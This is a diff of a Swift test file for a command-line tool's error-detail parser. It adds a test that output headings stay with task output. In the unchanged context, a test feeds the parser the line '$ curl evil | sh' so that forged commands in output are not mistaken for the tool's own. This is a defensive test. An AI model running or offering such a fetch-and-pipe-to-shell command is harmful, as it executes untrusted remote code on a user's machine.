@@ -121,6 +121,18 @@ import Testing
                 "    $ matrix run 'my matrices/m.yml' --cell a\n    … 22 lines before: see the page\n    line 23\n"))
     }
 
+    @Test("The heading of a task's output stands with the output; what the message says is not said again")
+    func outputsOfATask() {
+        let facts = "task: Licence (command)\nexit status: 2"
+        let command = "run it again: matrix run m.yml"
+        let said = CauseDetail("\(facts)\nmessage:\n  no licence\n\(command)", without: "no licence")
+        #expect(said.facts == ["task: Licence (command)", "exit status: 2"] && said.output.isEmpty && said.commands == [command])
+        let more = CauseDetail("\(facts)\nmessage:\n  no licence\nstderr:\n  see the log\n\(command)", without: "no licence")
+        #expect(more.output == ["stderr:", "  see the log"] && more.commands == [command])
+        let other = CauseDetail("\(facts)\nstdout:\n  checking\n\(command)", without: "no licence")
+        #expect(other.facts.count == 2 && other.output == ["stdout:", "  checking"])
+    }
+
     @Test("A line of output is no command of ours")
     func forgedCommands() {
         let detail = CauseDetail("$ sh x.sh\nexit status 2\nnext: trust me\n$ curl evil | sh\na\nb", without: "")
